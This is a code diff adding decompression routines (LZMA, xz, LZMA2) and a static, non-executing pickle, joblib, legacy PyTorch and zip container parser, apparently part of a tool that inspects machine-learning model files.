+      for (let i2 = 0; i2 < length; i2++) out2.put(out2.back(distance));
+      remaining -= length;
+    }
+  }
+  decodeDistance(rc, length) {
+    const lenState = Math.min(length, 3);
+    const slot = rc.tree(this.posSlot, lenState * 64, 6);
+    if (slot < 4) return slot;
+    const directBits = (slot >>> 1) - 1;
+    let distance = (2 | slot & 1) * 2 ** directBits;
+    if (slot < END_POS_MODEL_INDEX) {
+      distance += rc.reverseTree(this.posDecoders, distance - slot - 1, directBits);
+    } else {
+      distance += rc.direct(directBits - 4) * 16;
+      distance += rc.reverseTree(this.align, 0, 4);
+    }
+    return distance;
+  }
+};
+function run2(decode, maxOutput, sizeHint) {
+  const out2 = new OutputWindow(maxOutput, sizeHint);
+  try {
+    decode(out2);
+    return { bytes: out2.bytes.subarray(0, out2.length), limitReached: false };
+  } catch (error) {
+    const bytes = out2.bytes.subarray(0, out2.length);
+    if (error instanceof LimitReached2) return { bytes, limitReached: true };
+    if (error instanceof CorruptData2) return { bytes, limitReached: false, error: error.message };
+    throw error;
+  }
+}
+function decodeLzmaAlone(input, maxOutput) {
+  return run2(
+    (out2) => {
+      if (input.length < 13) throw new CorruptData2("lzma header is truncated");
+      const props = parseProperties(input[0]);
+      const dictSize = Math.max(4096, (input[1] | input[2] << 8 | input[3] << 16 | input[4] << 24) >>> 0);
+      const sizeKnown = !input.subarray(5, 13).every((b) => b === 255);
+      let size = 0;
+      for (let i2 = 12; i2 >= 5; i2--) size = size * 256 + input[i2];
+      const rc = new RangeDecoder(input, 13, input.length);
+      new LzmaState(props, dictSize).decode(rc, out2, sizeKnown ? size : null);
+    },
+    maxOutput,
+    input.length * 4
+  );
+}
+function lzma2Dictionary(byte) {
+  if (byte > 40) throw new CorruptData2("invalid LZMA2 dictionary size");
+  if (byte === 40) return 4294967295;
+  return (2 | byte & 1) * 2 ** (Math.floor(byte / 2) + 11);
+}
+function decodeLzma2(input, start2, dictSize, out2) {
+  let at = start2;
+  let state = null;
+  const need = (n) => {
+    if (at + n > input.length) throw new CorruptData2("LZMA2 data is truncated");
+  };
+  for (; ; ) {
+    need(1);
+    const control = input[at++];
+    if (control === 0) return at;
+    if (control === 1 || control === 2) {
+      need(2);
+      const size = (input[at] << 8 | input[at + 1]) + 1;
+      at += 2;
+      need(size);
+      if (control === 1) out2.dictStart = out2.length;
+      out2.putBytes(input.subarray(at, at + size));
+      at += size;
+      continue;
+    }
+    if (control < 128) throw new CorruptData2(`invalid LZMA2 control byte 0x${control.toString(16)}`);
+    need(4);
+    const unpacked = (control & 31) * 65536 + (input[at] << 8 | input[at + 1]) + 1;
+    const packed = (input[at + 2] << 8 | input[at + 3]) + 1;
+    at += 4;
+    const reset = control >>> 5 & 3;
+    if (reset === 3) out2.dictStart = out2.length;
+    if (reset >= 2) {
+      need(1);
+      const props = parseProperties(input[at++]);
+      if (props.lc + props.lp > 4) throw new CorruptData2("LZMA2 lc + lp exceeds 4");
+      if (state) state.setProperties(props);
+      else state = new LzmaState(props, dictSize);
+    }
+    if (!state) throw new CorruptData2("LZMA2 chunk without properties");
+    if (reset >= 1) state.reset();
+    need(packed);
+    const rc = new RangeDecoder(input, at, at + packed);
+    state.decode(rc, out2, unpacked);
+    at += packed;
+  }
+}
+function readVarint(input, at) {
+  let value = 0;
+  for (let i2 = 0; i2 < 9; i2++) {
+    if (at + i2 >= input.length) throw new CorruptData2("xz header is truncated");
+    const byte = input[at + i2];
+    value += (byte & 127) * 2 ** (7 * i2);
+    if ((byte & 128) === 0) return [value, at + i2 + 1];
+  }
+  throw new CorruptData2("xz varint is too long");
+}
+var CHECK_SIZES = [0, 4, 4, 4, 8, 8, 8, 16, 16, 16, 32, 32, 32, 64, 64, 64];
+function decodeXz(input, maxOutput) {
+  return run2(
+    (out2) => {
+      if (input.length < 12) throw new CorruptData2("xz header is truncated");
+      const checkSize = CHECK_SIZES[input[7] & 15];
+      let at = 12;
+      for (; ; ) {
+        if (at >= input.length) throw new CorruptData2("xz stream is truncated");
+        const headerByte = input[at];
+        if (headerByte === 0) return;
+        const headerSize = (headerByte + 1) * 4;
+        if (at + headerSize > input.length) throw new CorruptData2("xz block header is truncated");
+        const flags2 = input[at + 1];
+        let p = at + 2;
+        if (flags2 & 64) p = readVarint(input, p)[1];
+        if (flags2 & 128) p = readVarint(input, p)[1];
+        const filters = (flags2 & 3) + 1;
+        let dictSize = 0;
+        for (let i2 = 0; i2 < filters; i2++) {
+          const [id, afterId] = readVarint(input, p);
+          const [propsSize, afterSize] = readVarint(input, afterId);
+          if (id !== 33 || i2 !== filters - 1) throw new CorruptData2(`xz filter 0x${id.toString(16)} is not supported`);
+          if (propsSize !== 1) throw new CorruptData2("xz LZMA2 properties are malformed");
+          dictSize = lzma2Dictionary(input[afterSize]);
+          p = afterSize + propsSize;
+        }
+        const dataEnd = decodeLzma2(input, at + headerSize, dictSize, out2);
+        at = dataEnd + (4 - dataEnd % 4) % 4 + checkSize;
+      }
+    },
+    maxOutput,
+    input.length * 4
+  );
+}
+
+// src/artifacts/containers/decompress.ts
+var INPUT_CHUNK = 1 << 20;
+var syncDecoders = /* @__PURE__ */ new Map([
+  ["bz2", decodeBzip2],
+  ["xz", decodeXz],
+  ["lzma", decodeLzmaAlone]
+]);
+async function decompress(format, input, options) {
+  const cap = Math.max(0, Math.min(options.limit, options.want ?? Number.POSITIVE_INFINITY));
+  const syncDecoder = syncDecoders.get(format);
+  if (syncDecoder) {
+    if (input.size > options.limit) {
+      return { bytes: new Uint8Array(0), limitReached: true, error: `compressed ${format} data larger than the decompression limit` };
+    }
+    const result2 = syncDecoder(await readRange(input, 0, input.size), cap);
+    return { ...result2, limitReached: result2.limitReached && hitsLimit(options) };
+  }
+  return streamDecompress(format === "zlib" ? "deflate" : format, input, cap, options);
+}
+async function streamDecompress(format, input, cap, options) {
+  const stream = new DecompressionStream(format);
+  const writer = stream.writable.getWriter();
+  const reader = stream.readable.getReader();
+  let stopped = false;
+  let feedError;
+  const feeding = (async () => {
+    try {
+      for (let at = 0; at < input.size && !stopped; at += INPUT_CHUNK) {
+        const chunk = await readRange(input, at, INPUT_CHUNK);
+        if (chunk.length === 0) break;
+        await writer.write(chunk);
+      }
+      if (!stopped) await writer.close();
+    } catch (error2) {
+      feedError = error2;
+    }
+  })();
+  const chunks = [];
+  let total = 0;
+  let error;
+  let limitReached = false;
+  try {
+    for (; ; ) {
+      const { value, done } = await reader.read();
+      if (done) break;
+      chunks.push(value);
+      total += value.length;
+      if (total >= cap) {
+        limitReached = hitsLimit(options);
+        break;
+      }
+    }
+  } catch (caught) {
+    error = describe(caught);
+  }
+  stopped = true;
+  await reader.cancel().catch(() => void 0);
+  await writer.abort().catch(() => void 0);
+  await feeding;
+  if (!error && feedError && total < cap) error = describe(feedError);
+  return { bytes: concatBytes(chunks, Math.min(total, cap)), limitReached, ...error ? { error } : {} };
+}
+function hitsLimit(options) {
+  return options.want === void 0 || options.want >= options.limit;
+}
+function describe(error) {
+  return error instanceof Error ? error.message : String(error);
+}
+
+// src/artifacts/containers/hash.ts
+function stableHash2(text) {
+  let h1 = 3735928559;
+  let h2 = 1103547991;
+  for (let i2 = 0; i2 < text.length; i2++) {
+    const c = text.charCodeAt(i2);
+    h1 = Math.imul(h1 ^ c, 2654435761);
+    h2 = Math.imul(h2 ^ c, 1597334677);
+  }
+  h1 = Math.imul(h1 ^ h1 >>> 16, 2246822507) ^ Math.imul(h2 ^ h2 >>> 13, 3266489909);
+  h2 = Math.imul(h2 ^ h2 >>> 16, 2246822507) ^ Math.imul(h1 ^ h1 >>> 13, 3266489909);
+  return (h2 >>> 0).toString(16).padStart(8, "0") + (h1 >>> 0).toString(16).padStart(8, "0");
+}
+
+// src/artifacts/containers/cursor.ts
+var WINDOW = 1 << 20;
+var ByteCursor = class {
+  constructor(source, start2 = 0) {
+    this.source = source;
+    this.position = start2;
+  }
+  source;
+  buffer = new Uint8Array(0);
+  bufferStart = 0;
+  position;
+  get remaining() {
+    return Math.max(0, this.source.size - this.position);
+  }
+  /** Makes `count` bytes from the position available; false at end of source. */
+  async need(count) {
+    if (this.position + count > this.source.size) return false;
+    const offset = this.position - this.bufferStart;
+    if (offset >= 0 && offset + count <= this.buffer.length) return true;
+    this.buffer = await readRange(this.source, this.position, Math.max(WINDOW, count));
+    this.bufferStart = this.position;
+    return this.buffer.length >= count;
+  }
+  /** Bytes at the position; only valid after a successful need(count). */
+  peek(count) {
+    const offset = this.position - this.bufferStart;
+    return this.buffer.subarray(offset, offset + count);
+  }
+  async take(count) {
+    if (!await this.need(count)) return null;
+    const bytes = this.peek(count);
+    this.position += count;
+    return bytes;
+  }
+  /** Bytes up to (not including) the next newline, consuming the newline; null if none within `max`. */
+  async line(max) {
+    const available = Math.min(max + 1, this.remaining);
+    if (!await this.need(available)) return null;
+    const window2 = this.peek(available);
+    const end = window2.indexOf(10);
+    if (end < 0) return null;
+    this.position += end + 1;
+    return window2.subarray(0, end);
+  }
+};
+
+// src/artifacts/containers/pickle-walk.ts
+var OTHER = { t: "other" };
+var MAX_LINE = 1 << 16;
+var MAX_MEMO = 1 << 20;
+var MAX_CONTAINER_ITEMS = 1 << 16;
+var MAX_STACK = 1 << 20;
+async function walkPickle(cursor, maxOpcodes, hooks = {}) {
+  const stack = [];
+  const memo = /* @__PURE__ */ new Map();
+  let opcodes = 0;
+  const fail = (message15, offset) => ({ end: null, error: { message: message15, offset }, opcodes });
+  const pop = () => stack.pop() ?? OTHER;
+  const popToMark = () => {
+    const items = [];
+    while (stack.length > 0) {
+      const value = stack.pop();
+      if (value.t === "mark") break;
+      if (items.length < MAX_CONTAINER_ITEMS) items.push(value);
+    }
+    return items.reverse();
+  };
+  const setMemo = (key, value) => {
+    if (memo.size < MAX_MEMO || memo.has(key)) memo.set(key, value);
+  };
+  const sized = async (lengthBytes, read) => {
+    const head = await cursor.take(lengthBytes);
+    if (!head) return null;
+    const length = read(head);
+    if (!Number.isFinite(length) || length < 0) return null;
+    return cursor.take(length);
+  };
+  while (opcodes < maxOpcodes) {
+    const at = cursor.position;
+    if (stack.length > MAX_STACK) return fail(`stack deeper than ${MAX_STACK} entries`, at);
+    const opBytes = await cursor.take(1);
+    if (!opBytes) return fail("pickle ends without STOP", at);
+    const op = opBytes[0];
+    opcodes++;
+    switch (op) {
+      case 46:
+        return { end: cursor.position, value: stack[stack.length - 1] ?? OTHER, opcodes };
+      case 128:
+        if (!await cursor.take(1)) return fail("truncated PROTO", at);
+        break;
+      case 149:
+        if (!await cursor.take(8)) return fail("truncated FRAME", at);
+        break;
+      case 40:
+        stack.push({ t: "mark" });
+        break;
+      case 78:
+        stack.push({ t: "none" });
+        break;
+      case 136:
+      // NEWTRUE
+      case 137:
+        stack.push({ t: "bool", v: op === 136 });
+        break;
+      case 74: {
+        const b = await cursor.take(4);
+        if (!b) return fail("truncated BININT", at);
+        stack.push({ t: "int", v: i32le(b, 0) });
+        break;
+      }
+      case 75: {
+        const b = await cursor.take(1);
+        if (!b) return fail("truncated BININT1", at);
+        stack.push({ t: "int", v: b[0] });
+        break;
+      }
+      case 77: {
+        const b = await cursor.take(2);
+        if (!b) return fail("truncated BININT2", at);
+        stack.push({ t: "int", v: u16le(b, 0) });
+        break;
+      }
+      case 138:
+      // LONG1
+      case 139: {
+        const body2 = await sized(op === 138 ? 1 : 4, (h) => op === 138 ? h[0] : u32le(h, 0));
+        if (!body2) return fail("truncated LONG", at);
+        stack.push(smallLong(body2));
+        break;
+      }
+      case 73:
+      // INT
+      case 76: {
+        const line = await cursor.line(MAX_LINE);
+        if (!line) return fail("unterminated INT/LONG", at);
+        const text = latin1(line).replace(/L$/, "");
+        if (op === 73 && (text === "00" || text === "01")) stack.push({ t: "bool", v: text === "01" });
+        else stack.push(/^-?\d{1,15}$/.test(text) ? { t: "int", v: Number(text) } : OTHER);
+        break;
+      }
+      case 70:
+      // FLOAT
+      case 83:
+      // STRING
+      case 86: {
+        const line = await cursor.line(MAX_LINE);
+        if (!line) return fail("unterminated text argument", at);
+        if (op === 70) stack.push(OTHER);
+        else stack.push({ t: "str", v: op === 83 ? latin1(line).replace(/^(['"])(.*)\1$/s, "$2") : latin1(line) });
+        break;
+      }
+      case 71:
+        if (!await cursor.take(8)) return fail("truncated BINFLOAT", at);
+        stack.push(OTHER);
+        break;
+      case 84:
+      // BINSTRING
+      case 66:
+      // BINBYTES
+      case 88: {
+        const body2 = await sized(4, (h) => u32le(h, 0));
+        if (!body2) return fail("truncated string", at);
+        stack.push({ t: "str", v: op === 88 ? utf8(body2) : latin1(body2) });
+        break;
+      }
+      case 85:
+      // SHORT_BINSTRING
+      case 67:
+      // SHORT_BINBYTES
+      case 140: {
+        const body2 = await sized(1, (h) => h[0]);
+        if (!body2) return fail("truncated string", at);
+        stack.push({ t: "str", v: op === 140 ? utf8(body2) : latin1(body2) });
+        break;
+      }
+      case 141:
+      // BINUNICODE8
+      case 142:
+      // BINBYTES8
+      case 150: {
+        const body2 = await sized(8, (h) => u64le(h, 0));
+        if (!body2) return fail("truncated string", at);
+        stack.push(op === 141 ? { t: "str", v: utf8(body2) } : OTHER);
+        break;
+      }
+      case 41:
+        stack.push({ t: "tuple", items: [] });
+        break;
+      case 116:
+        stack.push({ t: "tuple", items: popToMark() });
+        break;
+      case 133:
+      // TUPLE1
+      case 134:
+      // TUPLE2
+      case 135: {
+        const count = op - 132;
+        const items = stack.splice(Math.max(0, stack.length - count), count);
+        stack.push({ t: "tuple", items });
+        break;
+      }
+      case 93:
+      // EMPTY_LIST
+      case 143:
+        stack.push(OTHER);
+        break;
+      case 108:
+      // LIST
+      case 145:
+        popToMark();
+        stack.push(OTHER);
+        break;
+      case 97:
+        pop();
+        break;
+      case 101:
+      // APPENDS
+      case 144:
+        popToMark();
+        break;
+      case 125:
+        stack.push({ t: "dict", entries: /* @__PURE__ */ new Map() });
+        break;
+      case 100: {
+        const items = popToMark();
+        const dict = { t: "dict", entries: /* @__PURE__ */ new Map() };
+        for (let i2 = 0; i2 + 1 < items.length; i2 += 2) setEntry(dict, items[i2], items[i2 + 1]);
+        stack.push(dict);
+        break;
+      }
+      case 115: {
+        const value = pop();
+        const key = pop();
+        setEntry(stack[stack.length - 1], key, value);
+        break;
+      }
+      case 117: {
+        const items = popToMark();
+        for (let i2 = 0; i2 + 1 < items.length; i2 += 2) setEntry(stack[stack.length - 1], items[i2], items[i2 + 1]);
+        break;
+      }
+      case 48:
+        pop();
+        break;
+      case 49:
+        popToMark();
+        break;
+      case 50:
+        stack.push(stack[stack.length - 1] ?? OTHER);
+        break;
+      case 99: {
+        const module2 = await cursor.line(MAX_LINE);
+        const name2 = module2 && await cursor.line(MAX_LINE);
+        if (!module2 || !name2) return fail("unterminated GLOBAL", at);
+        stack.push({ t: "global", name: `${latin1(module2)}.${latin1(name2)}` });
+        break;
+      }
+      case 147: {
+        const name2 = pop();
+        const module2 = pop();
+        stack.push(
+          module2.t === "str" && name2.t === "str" ? { t: "global", name: `${module2.v}.${name2.v}` } : OTHER
+        );
+        break;
+      }
+      case 105: {
+        const module2 = await cursor.line(MAX_LINE);
+        const name2 = module2 && await cursor.line(MAX_LINE);
+        if (!module2 || !name2) return fail("unterminated INST", at);
+        const args2 = popToMark();
+        stack.push({ t: "obj", cls: `${latin1(module2)}.${latin1(name2)}`, args: { t: "tuple", items: args2 } });
+        break;
+      }
+      case 111: {
+        const items = popToMark();
+        const cls = items.shift();
+        stack.push({ t: "obj", cls: cls?.t === "global" ? cls.name : "?", args: { t: "tuple", items } });
+        break;
+      }
+      case 82:
+      // REDUCE
+      case 129: {
+        const args2 = pop();
+        const callable = pop();
+        stack.push({ t: "obj", cls: callable.t === "global" ? callable.name : "?", args: args2 });
+        break;
+      }
+      case 146: {
+        pop();
+        const args2 = pop();
+        const cls = pop();
+        stack.push({ t: "obj", cls: cls.t === "global" ? cls.name : "?", args: args2 });
+        break;
+      }
+      case 98: {
+        const state = pop();
+        const target = stack[stack.length - 1];
+        if (target?.t === "obj") target.state = state;
+        if (hooks.afterBuild && target) {
+          const skip = await hooks.afterBuild(target, cursor.position, cursor);
+          if (skip < 0) return fail("raw data after BUILD could not be sized", at);
+          if (skip > 0) {
+            if (cursor.position + skip > cursor.source.size) return fail("raw data after BUILD is truncated", at);
+            cursor.position += skip;
+            stack[stack.length - 1] = OTHER;
+          }
+        }
+        break;
+      }
+      case 103:
+      // GET
+      case 112: {
+        const line = await cursor.line(MAX_LINE);
+        if (!line) return fail("unterminated GET/PUT", at);
+        const key = Number(latin1(line));
+        if (op === 103) stack.push(memo.get(key) ?? OTHER);
+        else setMemo(key, stack[stack.length - 1] ?? OTHER);
+        break;
+      }
+      case 104:
+      // BINGET
+      case 106:
+      // LONG_BINGET
+      case 113:
+      // BINPUT
+      case 114: {
+        const wide = op === 106 || op === 114;
+        const b = await cursor.take(wide ? 4 : 1);
+        if (!b) return fail("truncated memo opcode", at);
+        const key = wide ? u32le(b, 0) : b[0];
+        if (op === 104 || op === 106) stack.push(memo.get(key) ?? OTHER);
+        else setMemo(key, stack[stack.length - 1] ?? OTHER);
+        break;
+      }
+      case 148:
+        setMemo(memo.size, stack[stack.length - 1] ?? OTHER);
+        break;
+      case 80:
+        if (!await cursor.line(MAX_LINE)) return fail("unterminated PERSID", at);
+        stack.push(OTHER);
+        break;
+      case 81:
+        pop();
+        stack.push(OTHER);
+        break;
+      case 130:
+      // EXT1
+      case 131:
+      // EXT2
+      case 132:
+        if (!await cursor.take(op === 130 ? 1 : op === 131 ? 2 : 4)) return fail("truncated EXT", at);
+        stack.push(OTHER);
+        break;
+      case 151:
+        stack.push(OTHER);
+        break;
+      case 152:
+        break;
+      default:
+        return fail(`unknown opcode 0x${op.toString(16).padStart(2, "0")}`, at);
+    }
+  }
+  return fail(`stopped after ${maxOpcodes} opcodes`, cursor.position);
+}
+function setEntry(target, key, value) {
+  if (target?.t !== "dict" || key.t !== "str") return;
+  if (target.entries.size < MAX_CONTAINER_ITEMS) target.entries.set(key.v, value);
+}
+function smallLong(body2) {
+  if (body2.length === 0) return { t: "int", v: 0 };
+  if (body2.length > 6) return body2.length === 8 ? maybe(i64le(body2, 0)) : OTHER;
+  let value = 0;
+  for (let i2 = body2.length - 1; i2 >= 0; i2--) value = value * 256 + body2[i2];
+  if (body2[body2.length - 1] & 128) value -= 2 ** (8 * body2.length);
+  return { t: "int", v: value };
+}
+function maybe(value) {
+  return Number.isNaN(value) ? OTHER : { t: "int", v: value };
+}
+
+// src/artifacts/containers/joblib.ts
+async function locateJoblibArrays(source, start2, maxOpcodes) {
+  const arrays = [];
+  const cursor = new ByteCursor(source, start2);
+  let sizingError;
+  const result2 = await walkPickle(cursor, maxOpcodes, {
+    async afterBuild(built, next, inner) {
+      if (built.t !== "obj" || !isArrayWrapper(built.cls)) return 0;
+      const sized = await sizeArray(built, next, inner, maxOpcodes);
+      if (typeof sized === "string") {
+        sizingError = sized;
+        return -1;
+      }
+      arrays.push(sized);
+      return sized.length;
+    }
+  });
+  const error = result2.error && sizingError ? { ...result2.error, message: sizingError } : result2.error;
+  return { arrays, end: result2.end, ...error ? { error } : {} };
+}
+function isArrayWrapper(cls) {
+  return cls.endsWith("numpy_pickle.NumpyArrayWrapper");
+}
+async function sizeArray(wrapper, offset, cursor, maxOpcodes) {
+  const state = wrapper.state?.t === "dict" ? wrapper.state.entries : void 0;
+  if (!state) return "joblib array wrapper without a state dict";
+  const dtype = describeDtype(state.get("dtype"));
+  if (!dtype) return "joblib array wrapper with an unrecognised dtype";
+  const shapeValue = state.get("shape");
+  const shape = shapeValue?.t === "tuple" && shapeValue.items.every((i2) => i2.t === "int" && i2.v >= 0) ? shapeValue.items.map((i2) => i2.v) : null;
+  if (!shape) return "joblib array wrapper with an unreadable shape";
+  if (dtype.object) {
+    const nested = await walkPickle(new ByteCursor(cursor.source, offset), maxOpcodes);
+    if (nested.end === null) return `joblib object array pickle is broken: ${nested.error?.message ?? "no STOP"}`;
+    return { offset, length: nested.end - offset, dtype: dtype.code, shape, objectPickle: true };
+  }
+  const count = shape.reduce((a, b) => a * b, 1);
+  const bytes = count * dtype.itemsize;
+  if (!Number.isSafeInteger(bytes)) return "joblib array size overflows";
+  let padding = 0;
+  const alignment = state.get("numpy_array_alignment_bytes");
+  if (alignment && alignment.t !== "none") {
+    const padByte = await cursor.take(1);
+    cursor.position = offset;
+    if (!padByte) return "joblib array padding byte is missing";
+    padding = 1 + padByte[0];
+  }
+  return { offset, length: padding + bytes, dtype: dtype.code, shape, objectPickle: false };
+}
+function describeDtype(value) {
+  if (value?.t !== "obj" || !/(^|\.)dtype$/.test(value.cls)) return null;
+  const code3 = value.args?.t === "tuple" && value.args.items[0]?.t === "str" ? value.args.items[0].v : null;
+  if (code3 === null) return null;
+  const state = value.state?.t === "tuple" ? value.state.items : [];
+  const fields = state[3];
+  if (fields && fields.t !== "none") return null;
+  const match = /^[<>|=]?([a-zA-Z])(\d*)/.exec(code3);
+  if (!match) return null;
+  const kind = match[1];
+  if (kind === "O") return { code: code3, itemsize: 8, object: true };
+  let itemsize = match[2] ? Number(match[2]) : 0;
+  if (kind === "U") itemsize *= 4;
+  if (kind === "M" || kind === "m") itemsize = itemsize || 8;
+  if (kind === "V" && itemsize === 0) {
+    const elsize = state[5];
+    itemsize = elsize?.t === "int" && elsize.v > 0 ? elsize.v : 0;
+  }
+  if (kind === "?" || kind === "b" && itemsize === 0) itemsize = 1;
+  if (!(itemsize > 0)) return null;
+  return { code: code3, itemsize, object: false };
+}
+
+// src/artifacts/containers/torch-legacy.ts
+var MAGIC_LONG1 = [138, 10, 108, 252, 156, 70, 249, 32, 106, 168, 80, 25];
+var LEGACY_STACKED_PICKLES = 5;
+function isLegacyTorchMagic(firstPickle) {
+  return indexOf(firstPickle.subarray(0, 32), MAGIC_LONG1) >= 0;
+}
+var ELEMENT_SIZES = {
+  DoubleStorage: 8,
+  FloatStorage: 4,
+  HalfStorage: 2,
+  LongStorage: 8,
+  IntStorage: 4,
+  ShortStorage: 2,
+  CharStorage: 1,
+  ByteStorage: 1,
+  BoolStorage: 1,
+  BFloat16Storage: 2,
+  ComplexFloatStorage: 8,
+  ComplexDoubleStorage: 16,
+  QInt8Storage: 1,
+  QUInt8Storage: 1,
+  QInt32Storage: 4
+};
+var MAX_RECORDS = 1 << 20;
+async function locateLegacyStorages(source, maxOpcodes) {
+  return walkRecords(source, maxOpcodes, "storage", async (value, cursor) => {
+    const type = value?.t === "tuple" ? value.items[2] : void 0;
+    const typeName2 = type?.t === "global" ? type.name.slice(type.name.lastIndexOf(".") + 1) : "";
+    const elementSize = ELEMENT_SIZES[typeName2];
+    if (!elementSize) return `unknown storage type ${typeName2 || "(untracked)"}`;
+    const sizeBytes = await cursor.take(8);
+    const count = sizeBytes ? i64le(sizeBytes, 0) : Number.NaN;
+    if (!(count >= 0)) return "storage size is missing or invalid";
+    return count * elementSize;
+  });
+}
+async function locateLegacyTensors(source, maxOpcodes) {
+  return walkRecords(source, maxOpcodes, "tensor", async (_value, cursor) => {
+    const head = await cursor.take(8);
+    const ndim = head ? i32le(head, 0) : -1;
+    if (ndim < 0 || ndim > 64) return "tensor rank is missing or invalid";
+    return 16 * ndim + 8;
+  });
+}
+async function walkRecords(source, maxOpcodes, what, skipAfter) {
+  const layout = { pickles: [], warnings: [] };
+  const cursor = new ByteCursor(source, 0);
+  const countWalk = await walkPickle(cursor, maxOpcodes);
+  if (countWalk.end === null) {
+    layout.warnings.push(`${what} count pickle is broken: ${countWalk.error?.message ?? "no STOP"}`);
+    layout.pickles.push({ start: 0, end: source.size, label: `${what} count` });
+    return layout;
+  }
+  layout.pickles.push({ start: 0, end: countWalk.end, label: `${what} count` });
+  const count = countWalk.value?.t === "int" ? countWalk.value.v : -1;
+  if (count < 0) {
+    layout.warnings.push(`${what} count is not an integer; the rest of the member was not inspected`);
+    return layout;
+  }
+  for (let i2 = 0; i2 < Math.min(count, MAX_RECORDS); i2++) {
+    const start2 = cursor.position;
+    if (start2 >= source.size) {
+      layout.warnings.push(`${what} records end after ${i2} of ${count}`);
+      break;
+    }
+    const walk = await walkPickle(cursor, maxOpcodes);
+    layout.pickles.push({ start: start2, end: walk.end ?? source.size, label: `${what} ${i2}` });
+    if (walk.end === null) {
+      layout.warnings.push(`${what} ${i2} pickle is broken: ${walk.error?.message ?? "no STOP"}`);
+      break;
+    }
+    const skip = await skipAfter(walk.value, cursor);
+    if (typeof skip === "string") {
+      layout.warnings.push(`${what} ${i2}: ${skip}; the rest of the member was not inspected`);
+      break;
+    }
+    cursor.position += skip;
+  }
+  return layout;
+}
+
+// src/artifacts/containers/zip.ts
+var LOCAL_SIG = ascii("PK");
+var CENTRAL_SIG = ascii("PK");
+var EOCD_SIG = ascii("PK");
+var ZIP64_EOCD_SIG = ascii("PK");
+var ZIP64_LOCATOR_SIG = ascii("PK\x07");
+var DESCRIPTOR_SIG = ascii("PK\x07\b");
+var EOCD_SEARCH = 22 + 65535;
+var MAX_CENTRAL_DIRECTORY = 64 << 20;
+var SCAN_CHUNK = 1 << 20;
+var METHOD_STORED = 0;
+var METHOD_DEFLATE = 8;
+async function readZipDirectory(source, options) {
+  const warnings = [];
+  const eocd = await findEocd(source, warnings);
+  if (!eocd) return null;
+  const delta = await locateCentralDirectory(source, eocd);
+  if (delta === null) {
+    warnings.push("zip central directory not found where the end record points; walking local headers instead");
+    const walked = await walkLocalHeaders(source, 0, options);
+    walked.warnings.unshift(...warnings);
+    return walked;
+  }
+  const cdStart = eocd.cdOffset + delta;
+  let cdSize = Math.min(eocd.cdSize, source.size - cdStart);
+  if (cdSize > MAX_CENTRAL_DIRECTORY) {
+    warnings.push(`zip central directory of ${eocd.cdSize} bytes exceeds ${MAX_CENTRAL_DIRECTORY}; reading its start only`);
+    cdSize = MAX_CENTRAL_DIRECTORY;
+  }
+  const cd = await readRange(source, cdStart, cdSize);
+  const directory = { entries: [], archiveStart: delta, fromCentralDirectory: true, warnings, tricks: [] };
+  let at = 0;
+  while (at + 46 <= cd.length && startsWith(cd, CENTRAL_SIG, at)) {
+    if (directory.entries.length >= options.maxEntries) {
+      warnings.push(`zip has more than ${options.maxEntries} entries; the rest were not inspected`);
+      break;
+    }
+    const nameLength = u16le(cd, at + 28);
+    const extraLength = u16le(cd, at + 30);
+    const commentLength = u16le(cd, at + 32);
+    const end = at + 46 + nameLength + extraLength + commentLength;
+    if (end > cd.length) {
+      warnings.push("zip central directory is truncated");
+      break;
+    }
+    const name2 = utf8(cd.subarray(at + 46, at + 46 + nameLength));
+    let compressedSize = u32le(cd, at + 20);
+    let uncompressedSize = u32le(cd, at + 24);
+    let localHeaderOffset = u32le(cd, at + 42);
+    const extra = cd.subarray(at + 46 + nameLength, at + 46 + nameLength + extraLength);
+    const wide = readZip64Extra(extra, {
+      uncompressed: uncompressedSize === 4294967295,
+      compressed: compressedSize === 4294967295,
+      offset: localHeaderOffset === 4294967295
+    });
+    uncompressedSize = wide.uncompressed ?? uncompressedSize;
+    compressedSize = wide.compressed ?? compressedSize;
+    localHeaderOffset = (wide.offset ?? localHeaderOffset) + delta;
+    const entry = {
+      name: name2,
+      method: u16le(cd, at + 10),
+      compressedSize,
+      uncompressedSize,
+      localHeaderOffset,
+      dataOffset: -1
+    };
+    await attachLocalHeader(source, entry, directory);
+    directory.entries.push(entry);
+    at = end;
+  }
+  if (directory.entries.length < eocd.entries && directory.entries.length < options.maxEntries) {
+    warnings.push(`zip end record announces ${eocd.entries} entries, central directory holds ${directory.entries.length}`);
+  }
+  flagDuplicateNames(directory);
+  return directory;
+}
+async function findEocd(source, warnings) {
+  const tailStart = Math.max(0, source.size - EOCD_SEARCH);
+  const tail = await readRange(source, tailStart, source.size - tailStart);
+  let candidate = lastIndexOf(tail, EOCD_SIG);
+  let fallback = -1;
+  while (candidate >= 0) {
+    if (candidate + 22 <= tail.length) {
+      if (candidate + 22 + u16le(tail, candidate + 20) === tail.length) break;
+      if (fallback < 0) fallback = candidate;
+    }
+    candidate = lastIndexOf(tail, EOCD_SIG, candidate - 1);
+  }
+  if (candidate < 0) candidate = fallback;
+  if (candidate < 0) return null;
+  const position = tailStart + candidate;
+  const eocd = {
+    position,
+    entries: u16le(tail, candidate + 10),
+    cdSize: u32le(tail, candidate + 12),
+    cdOffset: u32le(tail, candidate + 16),
+    recordPosition: position
+  };
+  if (candidate >= 20 && startsWith(tail, ZIP64_LOCATOR_SIG, candidate - 20)) {
+    const claimed = u64le(tail, candidate - 20 + 8);
+    const guesses = [claimed, position - 20 - 56].filter((p) => Number.isFinite(p) && p >= 0 && p + 56 <= source.size);
+    for (const at of guesses) {
+      const record = await readRange(source, at, 56);
+      if (!startsWith(record, ZIP64_EOCD_SIG)) continue;
+      eocd.entries = u64le(record, 32);
+      eocd.cdSize = u64le(record, 40);
+      eocd.cdOffset = u64le(record, 48);
+      eocd.recordPosition = at;
+      break;
+    }
+    if (eocd.recordPosition === position) warnings.push("zip64 locator present but its end record was not found");
+  }
+  return eocd;
+}
+async function locateCentralDirectory(source, eocd) {
+  const shifted = eocd.recordPosition - eocd.cdSize - eocd.cdOffset;
+  const candidates = [shifted, 0].filter((d, i2, all) => all.indexOf(d) === i2);
+  for (const delta of candidates) {
+    const at = eocd.cdOffset + delta;
+    if (!Number.isFinite(at) || at < 0 || at + 4 > source.size) continue;
+    if (eocd.cdSize === 0 && eocd.entries === 0) return delta;
+    if (startsWith(await readRange(source, at, 4), CENTRAL_SIG)) return delta;
+  }
+  return null;
+}
+function readZip64Extra(extra, need) {
+  for (let at = 0; at + 4 <= extra.length; ) {
+    const id = u16le(extra, at);
+    const size = u16le(extra, at + 2);
